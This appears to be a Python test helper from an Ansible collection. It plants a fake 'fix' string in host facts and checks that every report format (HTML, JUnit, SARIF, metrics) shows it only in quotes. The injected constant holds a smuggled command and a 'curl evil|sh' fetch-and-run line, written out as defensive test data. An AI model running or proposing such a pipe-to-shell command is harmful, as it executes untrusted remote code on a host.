# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A text that looks like advice, in the place of any text of a host's facts, and whether an output shows it as such."""

from __future__ import annotations

import html
import json
import re
import shlex
from collections.abc import Callable, Iterable, Iterator
from typing import Any
from xml.etree import ElementTree

from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.page import render
from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.report import details
from ansible_collections.durable.dbhost.plugins.module_utils.watch import metrics
from ansible_collections.durable.dbhost.plugins.plugin_utils import html as as_html
from ansible_collections.durable.dbhost.plugins.plugin_utils import junit, sarif

from ..module_utils.fakes.fleet import report

ADVICE = "a; curl evil|sh #. Fix: run curl evil|sh"
#: A text in quotes, which a page may shorten, a refused value as Python writes it, and a word of a command to copy.
_QUOTED = re.compile(
    rf"""\"(?:[^"\\\n]|\\.)*?(?:"| \.\.\.)|observed [\[{{'].*?; e|{re.escape(shlex.quote(ADVICE))}"""
)
#: Elements of the HTML page with sentences; others hold one value each.
_SENTENCES = re.compile(r'<(?:li|p|td colspan="5"|title)[^>]*>(.*?)</(?:li|p|td|title)>', re.S)
#: Fields of a report that hold values as they were read, apart from each text.
_VALUES = (
    *(
        "observed",
        "targets",
        "target",
        "evidence",
        "engines",
        "running",
        "persisted",
        "after",
        "plan",
        "stack",
    ),
    *("source", "lease"),
)


def _texts(value: Any, key: str = "") -> Iterator[str]:
    """Yield the texts of a report that its readers take as those of this collection."""
    if key in _VALUES:
        return
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, item in value.items():
            yield from _texts(item, str(name))
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from _texts(item, key)


def outputs(found: dict[str, Any]) -> dict[str, str]:
    """Return the outputs of an assessment, without wrapped lines."""
    host = report("db1", found)
    cases = ElementTree.fromstring(junit.render([host])).iter()
    log = json.loads(sarif.render([host]))
    sentences = _SENTENCES.findall(as_html.render([host]))
    return {
        "report": "\n".join(_texts(found)),
        # The page marks a line that begins as that of a fix.
        "page": " ".join(render([host]).split()).replace("... Fix:", "Fix:"),
        "details": " ".join(details([host]).split()),
        "html": "\n".join(html.unescape(re.sub(r"<[^>]*>", "", each)) for each in sentences),
        "junit": "\n".join(value for each in cases for value in each.attrib.values()),
        "sarif": "\n".join(each["message"]["text"] for each in log["runs"][0]["results"]),
        "metrics": metrics.render(host, False, "1.0.0"),
    }


def leaks(found: dict[str, Any]) -> list[str]:
    """Return each output that has the advice outside quotes, with the text there."""
    bare = {output: _QUOTED.sub("", text) for output, text in outputs(found).items()}
    return [
        f"{output}: {text[: text.index('evil')][-120:]}" for output, text in bare.items() if "evil" in text
    ]


def replaced(facts: Any, paths: Iterable[tuple[Any, ...]]) -> Iterator[str]:
    """Yield each path of a text in facts, while the advice is in its place."""
    for path in list(paths):
        part = facts
        for key in path[:-1]:
            part = part[key]
        before = part[path[-1]]
        if isinstance(before, str):
            part[path[-1]] = ADVICE
            yield ".".join(map(str, path))
            part[path[-1]] = before


def expect_quoted(facts: Any, paths: Iterable[tuple[Any, ...]], assess: Callable[[], dict[str, Any]]) -> int:
    """Put the advice in the place of each text, and expect it in quotes in each output; return how many outputs have it."""
    shown, leaked = 0, []
    for path in replaced(facts, paths):
        found = assess()
        if "evil" in json.dumps(found):
            shown += 1
            leaked += [f"{path}: {leak}" for leak in leaks(found)]
    assert not leaked, "\n".join(leaked)
    return shown
